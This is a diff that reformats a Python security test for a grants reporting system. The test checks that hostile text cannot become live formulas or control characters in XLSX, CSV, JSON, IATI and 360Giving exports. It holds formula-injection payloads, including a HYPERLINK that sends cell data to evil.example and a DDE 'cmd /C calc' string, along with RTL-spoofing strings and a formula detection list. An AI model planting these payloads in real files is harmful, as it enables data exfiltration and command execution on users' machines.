@@ -6,6 +6,7 @@ proposal titles and organisation names are such text (nested fields included), a
 characters the input check would now refuse (a row from before it). Every export — the EC report as XLSX, CSV and
 JSON, IATI (validated against the official XSD), 360Giving — and the scheduled report must still be produced,
 valid and inert: no text cell is a formula, no formula-like CSV cell lacks its quote, no control character."""
+
 from __future__ import annotations
 
 import base64
@@ -32,8 +33,15 @@ from .scenario import scenario
 from .staff import INTERNAL, OK, REFUSED, Caller, classify, error_name
 from .testbed import Testbed
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3*cmd",
-            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1;2)",
+    "-2+3*cmd",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 RTL = ["\u202eexe.fdp\u202c report", "\u2067=1+1\u2069 \u200f\u061c"]
 CONTROLS = ["title\x0bvertical tab", "bell\x07", "escape\x1b[2J", "form\x0cfeed", "del\x7f", "c1\x85"]
 LONG = 10_000
@@ -48,14 +56,21 @@ def max_length(field) -> int:
 
 
 def text_fields(schema) -> list[tuple[str, object]]:
-    return [(name, f) for name, f in schema.fields.items()
-            if isinstance(f, fields.String) and not isinstance(f, (fields.Email, fields.UUID))]
+    return [
+        (name, f)
+        for name, f in schema.fields.items()
+        if isinstance(f, fields.String) and not isinstance(f, (fields.Email, fields.UUID))
+    ]
 
 
 def hostile_values(field) -> list[tuple[str, str]]:
     longest = max_length(field)
-    return ([("formula", v) for v in FORMULAS] + [("rtl", v) for v in RTL] + [("control", v) for v in CONTROLS]
-            + [("long", "=" + "x" * (longest - 1)), ("too long", "@" + "y" * longest)])
+    return (
+        [("formula", v) for v in FORMULAS]
+        + [("rtl", v) for v in RTL]
+        + [("control", v) for v in CONTROLS]
+        + [("long", "=" + "x" * (longest - 1)), ("too long", "@" + "y" * longest)]
+    )
 
 
 class HostileFlow(Flow):
@@ -85,7 +100,7 @@ class HostileFlow(Flow):
 
     def load_programme(self, definition: dict | None = None):
         definition = definition or flows_module.programme(self.programme_id)
-        definition["name"] = "=HYPERLINK(\"http://evil.example\",\"JMDI\") \u202eevil\u202c " + definition["name"]
+        definition["name"] = '=HYPERLINK("http://evil.example","JMDI") \u202eevil\u202c ' + definition["name"]
         super().load_programme(definition)
 
 
@@ -122,15 +137,20 @@ def check_xlsx(content: bytes, where: str, outcome) -> int:
             for cell in row:
                 value = cell.value
                 if cell.data_type == "f":
-                    outcome.check(not any(h in str(value) for h in ("HYPERLINK", "cmd", "@", "TTTT")),
-                                  f"{where}: {sheet.title}!{cell.coordinate} is a formula from the data: {value!r}"
-                                  [:200])
+                    outcome.check(
+                        not any(h in str(value) for h in ("HYPERLINK", "cmd", "@", "TTTT")),
+                        f"{where}: {sheet.title}!{cell.coordinate} is a formula from the data: {value!r}"[:200],
+                    )
                 elif isinstance(value, str):
                     texts += 1
-                    outcome.check(not CONTROL_CHARACTERS.search(value),
-                                  f"{where}: control character in {sheet.title}!{cell.coordinate}")
-                    outcome.check(cell.data_type == "s" and (not formula_like(value) or cell.quotePrefix),
-                                  f"{where}: {sheet.title}!{cell.coordinate} not inert: {value[:40]!r}")
+                    outcome.check(
+                        not CONTROL_CHARACTERS.search(value),
+                        f"{where}: control character in {sheet.title}!{cell.coordinate}",
+                    )
+                    outcome.check(
+                        cell.data_type == "s" and (not formula_like(value) or cell.quotePrefix),
+                        f"{where}: {sheet.title}!{cell.coordinate} not inert: {value[:40]!r}",
+                    )
     return texts
 
 
@@ -166,25 +186,29 @@ def run(outcome, sizes, log, **_):
                 outcome.fail(f"flow: {problem}")
             bed.settle(sizes.settle_seconds)
             programme_id = f"{hostile.programme_id}0000"
-            grants = bed.value("reporting", "SELECT count(*) FROM grant_facts WHERE programme_id = :p",
-                               p=programme_id)
+            grants = bed.value("reporting", "SELECT count(*) FROM grant_facts WHERE programme_id = :p", p=programme_id)
             outcome.check(bool(grants), f"no grant of {programme_id} reached reporting")
             # a row archived before the input check: control characters in a title and an organisation's name;
             # every grant dated back, so the scheduled (last month's, last quarter's) reports count them
             past = date.today() - timedelta(days=200)
             with bed.system.db("reporting").begin() as conn:
-                conn.execute(text("UPDATE grant_facts SET decision_date = :d WHERE programme_id = :p"),
-                             {"d": past, "p": programme_id})
+                conn.execute(
+                    text("UPDATE grant_facts SET decision_date = :d WHERE programme_id = :p"),
+                    {"d": past, "p": programme_id},
+                )
                 # (cut to the columns' widths: the flow's titles and names may already be as long as allowed)
-                conn.execute(text("UPDATE grant_facts SET title = left(title, 300 - length(:c)) || :c, "
-                                  "lead_organisation = left(:o || lead_organisation, 300) "
-                                  "WHERE grant_id = (SELECT min(grant_id) FROM grant_facts WHERE programme_id = :p)"),
-                             {"c": " \x0b\x07\x1b[2J", "o": "=cmd\x01|' /C calc'!A0 \x0c", "p": programme_id})
+                conn.execute(
+                    text(
+                        "UPDATE grant_facts SET title = left(title, 300 - length(:c)) || :c, "
+                        "lead_organisation = left(:o || lead_organisation, 300) "
+                        "WHERE grant_id = (SELECT min(grant_id) FROM grant_facts WHERE programme_id = :p)"
+                    ),
+                    {"c": " \x0b\x07\x1b[2J", "o": "=cmd\x01|' /C calc'!A0 \x0c", "p": programme_id},
+                )
                 conn.execute(text("DELETE FROM report_files"))
             files = {}
             for fmt in ("xlsx", "csv", "json"):
-                files[fmt] = caller.call("reporting", "budget_report", {"programme_id": programme_id,
-                                                                        "format": fmt})
+                files[fmt] = caller.call("reporting", "budget_report", {"programme_id": programme_id, "format": fmt})
             texts = check_xlsx(file_bytes(files["xlsx"]), "budget_report xlsx", outcome)
             cells = check_csv(files["csv"]["content"], "budget_report csv", outcome)
             as_json = json.dumps(files["json"], ensure_ascii=False)
@@ -195,14 +219,19 @@ def run(outcome, sizes, log, **_):
             outcome.check(errors == [], f"IATI invalid: {errors[:2]}")
             giving = caller.call("reporting", "giving360_export", {"programme_id": programme_id})
             data = json.loads(file_bytes(giving))
-            outcome.check(not CONTROL_CHARACTERS.search(json.dumps(data, ensure_ascii=False)),
-                          "control character in the 360Giving file")
+            outcome.check(
+                not CONTROL_CHARACTERS.search(json.dumps(data, ensure_ascii=False)),
+                "control character in the 360Giving file",
+            )
             # the scheduled job: its monthly and quarterly reports made again over the hostile data
             deadline = time.monotonic() + 60
             scheduled = []
             while time.monotonic() < deadline and len(scheduled) < 2:
-                scheduled = [r for r in caller.call("reporting", "list_reports", {})
-                             if r.get("generated_by") == "scheduler" or r.get("kind") in ("monthly", "quarterly")]
+                scheduled = [
+                    r
+                    for r in caller.call("reporting", "list_reports", {})
+                    if r.get("generated_by") == "scheduler" or r.get("kind") in ("monthly", "quarterly")
+                ]
                 time.sleep(1)
             outcome.check(len(scheduled) >= 2, f"the scheduled reports were not produced: {scheduled}")
             for report in scheduled:
@@ -210,13 +239,24 @@ def run(outcome, sizes, log, **_):
                 content = file_bytes(got)
                 if got.get("format") == "xlsx" or content[:2] == b"PK":
                     texts += check_xlsx(content, f"scheduled {report['kind']}", outcome)
-            hostile_titles = bed.value("reporting", "SELECT count(*) FROM grant_facts WHERE programme_id = :p AND "
-                                                    "(title LIKE '=%' OR title LIKE '+%' OR title LIKE '-%' OR "
-                                                    "title LIKE '@%')", p=programme_id)
+            hostile_titles = bed.value(
+                "reporting",
+                "SELECT count(*) FROM grant_facts WHERE programme_id = :p AND "
+                "(title LIKE '=%' OR title LIKE '+%' OR title LIKE '-%' OR "
+                "title LIKE '@%')",
+                p=programme_id,
+            )
         finally:
             caller.close()
-        outcome.figures = {"fields_x_values": answers["sent"], "accepted": answers[OK],
-                           "refused": answers[REFUSED], "internal": answers[INTERNAL],
-                           "controls_refused": answers["controls_refused"], "grants": grants,
-                           "hostile_titles": hostile_titles, "xlsx_text_cells": texts, "csv_cells": cells,
-                           "scheduled_reports": len(scheduled)}
+        outcome.figures = {
+            "fields_x_values": answers["sent"],
+            "accepted": answers[OK],
+            "refused": answers[REFUSED],
+            "internal": answers[INTERNAL],
+            "controls_refused": answers["controls_refused"],
+            "grants": grants,
+            "hostile_titles": hostile_titles,
+            "xlsx_text_cells": texts,
+            "csv_cells": cells,
+            "scheduled_reports": len(scheduled),
+        }
